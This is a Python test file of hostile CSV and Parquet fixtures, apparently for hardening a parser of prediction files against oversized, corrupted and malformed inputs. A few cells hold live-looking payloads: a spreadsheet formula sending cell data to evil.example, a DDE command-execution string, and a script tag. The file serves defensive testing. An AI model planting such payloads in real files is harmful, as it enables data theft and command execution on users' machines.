"""CSV that never ends, and Parquet whose figures about itself are lies."""

from __future__ import annotations

import struct
from typing import Any

import pyarrow as pa

from tests.hostile.making import PREDICTIONS, RIGHT, Hostile, archive, parquet, table, written_parquet

P = (PREDICTIONS,)
C, Q = "a.csv", "a.parquet"

CSV = [
    Hostile("CSV of a million columns", C, lambda: b"id,output" + b"," * 1_000_000 + b"\nc0,A\n"),
    Hostile("CSV of a million names", C, lambda: b"id,output," + b",".join(b"x%d" % n for n in range(1_000_000)) + b"\nc0,A\n"),
    Hostile("a row of a million cells", C, lambda: b"id,output\nc0,A" + b"," * 1_000_000 + b"\n"),
    Hostile("a quote never closed", C, lambda: table(first=("c0", "A")).replace(b"c0,A", b'c0,"A')),
    Hostile("a quote never closed, and 5 MB after it", C, lambda: b'id,output\nc0,"' + b"A,B\n" * 1_300_000),
    Hostile("a quote never closed in the header", C, lambda: b'id,"output\nc0,A\nc1,B\n'),
    Hostile("a quote in the middle of a cell", C, lambda: table().replace(b"c0,A", b'c0,A"B'), P),
    Hostile("letters after a closing quote", C, lambda: table().replace(b"c0,A", b'c0,"A"B')),
    Hostile("100 000 quotes", C, lambda: b"id,output\nc0," + b'"' * 100_001 + b"\n"),
    Hostile("a header twice the same", C, lambda: table(("id", "output", "output"), ("c0", "A", "B"))),
    Hostile("a header in capitals", C, lambda: table(("ID", "OUTPUT"))),
    Hostile("a header with blanks", C, lambda: table((" id ", "output ")), P),
    Hostile("a header in Cyrillic letters", C, lambda: table(("іd", "output"))),
    Hostile("a header and nothing else", C, lambda: b"id,output\n"),
    Hostile("no header", C, lambda: b"".join(table().splitlines(keepends=True)[1:])),
    Hostile("a header without output", C, lambda: table(("id", "answer"))),
    Hostile("cells too few", C, lambda: b"id,output\nc0\n"),
    Hostile("cells too many", C, lambda: b"id,output\nc0,A,B,C\n"),
    Hostile("parted by tabs", "a.tsv", lambda: table().replace(b",", b"\t")),
    Hostile("parted by semicolons", C, lambda: table().replace(b",", b";")),
    Hostile("parted by bars", C, lambda: table().replace(b",", b"|")),
    Hostile("a line for a spreadsheet first", C, lambda: b"sep=,\n" + table()),
    Hostile("SYLK", C, lambda: b"ID;PWXL;N;E\nC;X1;Y1;K\"id\"\nE\n"),
    Hostile("a null character in a cell", C, lambda: table(first=("c0", "A\0B"))),
    Hostile("a cell of 1 000 001 letters", C, lambda: table(first=("c0", "A" * 1_000_001))),
    Hostile("a confidence of 1e400", C, lambda: table(("id", "output", "confidence"), ("c0", "A", "1e400"))),
    Hostile("a confidence written nan", C, lambda: table(("id", "output", "confidence"), ("c0", "A", "nan"))),
    Hostile("tokens in Arabic digits", C, lambda: table(("id", "output", "tokens_in"), ("c0", "A", "١٢"))),
    Hostile("tokens with an underscore", C, lambda: table(("id", "output", "tokens_in"), ("c0", "A", "1_000"))),
    Hostile("tokens of 5 000 digits in CSV", C, lambda: table(("id", "output", "tokens_in"), ("c0", "A", "9" * 5_000))),
    Hostile("a formula in a cell", C, lambda: table(first=("c0", "=HYPERLINK(\"http://evil.example/?\"&A1)")), P),
    Hostile("an exchange of data in a cell", C, lambda: table(first=("c0", "+cmd|' /C notepad'!'A1'")), P),
    Hostile("a formula for an id", C, lambda: table(first=("=1+1", "A"))),
    Hostile("two million empty lines in CSV", C, lambda: table() + b"\n" * 2_000_000),
    Hostile("line ends within a cell", C, lambda: table(first=("c0", "A\r\nB\nC\rD")), P),
    Hostile("a table of a web page called CSV", C, lambda: b"<table><tr><td>id</td><td>output</td></tr></table>"),
    Hostile("a web page that is CSV too", C, lambda: b"<!--,-->\nid,output\nc0,<script>alert(1)</script>\n"),
]  # fmt: skip
PARQUET = [
    Hostile("Parquet as it should be", Q, lambda: parquet(), P),
    Hostile("Parquet called CSV", C, lambda: parquet(compression="none"), P),
    Hostile("Parquet cut in the middle", Q, lambda: parquet()[:300]),
    Hostile("Parquet without its end", Q, lambda: parquet()[:-4]),
    Hostile("Parquet without its beginning", Q, lambda: parquet()[4:]),
    Hostile("Parquet of eight letters", Q, lambda: b"PAR1PAR1"),
    Hostile("Parquet of twelve letters", Q, lambda: b"PAR1\0\0\0\0PAR1"),
    Hostile("Parquet with a footer of 4 GB", Q, lambda: _footer(2**32 - 1)),
    Hostile("Parquet with a footer of 2 GB", Q, lambda: _footer(2**31)),
    Hostile("Parquet with a footer of nothing", Q, lambda: _footer(0)),
    Hostile("Parquet with a footer longer than the file", Q, lambda: _footer(100_000)),
    Hostile("Parquet with a footer of noise", Q, lambda: b"PAR1" + b"\x19\xfc\xff\xff\xff\xff\x0f" * 40 + struct.pack("<I", 280) + b"PAR1"),
    Hostile("Parquet with a footer of lists in lists", Q, lambda: b"PAR1" + b"\x19" * 5000 + struct.pack("<I", 5000) + b"PAR1"),
    Hostile("Parquet with changed pages", Q, lambda: _spoiled()),
    Hostile("Parquet said to be encrypted", Q, lambda: b"PARE" + parquet()[4:-4] + b"PARE"),
    Hostile("Parquet that counts its rows wrongly", Q, lambda: _counted(), P),
    Hostile("Parquet of twenty million rows in a few bytes", Q, lambda: _run_of(20_000_000)),
    Hostile("Parquet of one output repeated into gigabytes", Q, lambda: _dictionary()),
    Hostile("Parquet whose page swells to 140 MB", Q, lambda: parquet({"output": ["A" * 140_000_000, *list(RIGHT.values())[1:]]}, compression="zstd")),
    Hostile("Parquet with ids that are numbers", Q, lambda: parquet({"id": list(range(8))})),
    Hostile("Parquet with outputs that are lists", Q, lambda: parquet({"output": [["A"]] * 8})),
    Hostile("Parquet with outputs that are structures", Q, lambda: parquet({"output": [{"a": "A"}] * 8})),
    Hostile("Parquet with outputs of a thousand shells", Q, lambda: parquet({"output": _shelled()})),
    Hostile("Parquet without outputs", Q, lambda: parquet({"output": None})),
    Hostile("Parquet with nothing for an output", Q, lambda: parquet({"output": [None, *list(RIGHT.values())[1:]]})),
    Hostile("Parquet with nothing for an id", Q, lambda: parquet({"id": [None, *list(RIGHT)[1:]]})),
    Hostile("Parquet of no rows", Q, lambda: written_parquet(pa.table({"id": pa.array([], pa.string()), "output": pa.array([], pa.string())}))),
    Hostile("Parquet with outputs that are no UTF-8", Q, lambda: parquet({"output": pa.array([b"\xff\xfe"] * 8, pa.binary())})),
    Hostile("Parquet with a confidence of NaN", Q, lambda: parquet({"confidence": [float("nan")] * 8})),
    Hostile("Parquet with a latency of infinity", Q, lambda: parquet({"latency_ms": [float("inf")] * 8})),
    Hostile("Parquet with tokens below nothing", Q, lambda: parquet({"tokens_in": [-1] * 8})),
    Hostile("Parquet with a confidence that is a date", Q, lambda: parquet({"confidence": pa.array([0] * 8, pa.timestamp("us"))})),
    Hostile("Parquet of 20 000 columns", Q, lambda: parquet({f"x{n}": [0] * 8 for n in range(20_000)})),
    Hostile("Parquet with a column twice", Q, lambda: _twice()),
    Hostile("Parquet with a null character in an output", Q, lambda: parquet({"output": ["A\0B", *list(RIGHT.values())[1:]]})),
    Hostile("Parquet and zip at once", Q, lambda: _and_zip()),
    Hostile("Arrow", "a.arrow", lambda: b"ARROW1\0\0" + bytes(64) + b"ARROW1"),
    Hostile("Avro", "a.avro", lambda: b"Obj\x01" + bytes(64)),
    Hostile("HDF5", "a.h5", lambda: b"\x89HDF\r\n\x1a\n" + bytes(64)),
    Hostile("SQLite", "a.db", lambda: b"SQLite format 3\0" + bytes(64)),
    Hostile("NumPy", "a.npy", lambda: b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False}"),
    Hostile("ORC", "a.orc", lambda: b"ORC" + bytes(64) + b"ORC"),
]  # fmt: skip
RECIPES = [*CSV, *PARQUET]


def _footer(length: int) -> bytes:
    return parquet()[:-8] + struct.pack("<I", length) + b"PAR1"


def _spoiled() -> bytes:
    content = bytearray(parquet())
    for at in range(20, 120, 7):
        content[at] ^= 0xA5
    return bytes(content)


def _counted() -> bytes:
    """The number of rows in the footer, a varint of 8 rows, becomes one of 63."""
    content = parquet()
    start = len(content) - 8 - struct.unpack("<I", content[-8:-4])[0]
    footer = content[start:].replace(b"\x16\x10", b"\x16\x7e")
    return content[:start] + footer


def _run_of(number: int) -> bytes:
    column = pa.DictionaryArray.from_arrays(pa.repeat(pa.scalar(0, pa.int8()), number), ["c0"])
    return written_parquet(pa.table({"id": column, "output": column}))


def _dictionary() -> bytes:
    """3 000 rows that all show the same output of 900 000 letters."""
    ids = [f"x{n}" for n in range(3000)]
    column = pa.DictionaryArray.from_arrays(pa.repeat(pa.scalar(0, pa.int8()), 3000), ["A" * 900_000])
    return written_parquet(pa.table({"id": ids, "output": column}), compression="zstd")


def _shelled() -> Any:
    column: Any = pa.array(["A"] * 8)
    for _ in range(60):
        column = pa.StructArray.from_arrays([column], ["a"])
    return column


def _twice() -> bytes:
    values = list(RIGHT.values())
    return written_parquet(
        pa.Table.from_arrays(
            [pa.array(list(RIGHT)), pa.array(values), pa.array(values)], ["id", "output", "output"]
        )
    )


def _and_zip() -> bytes:
    return parquet() + archive({"a.jsonl": b"{}"})
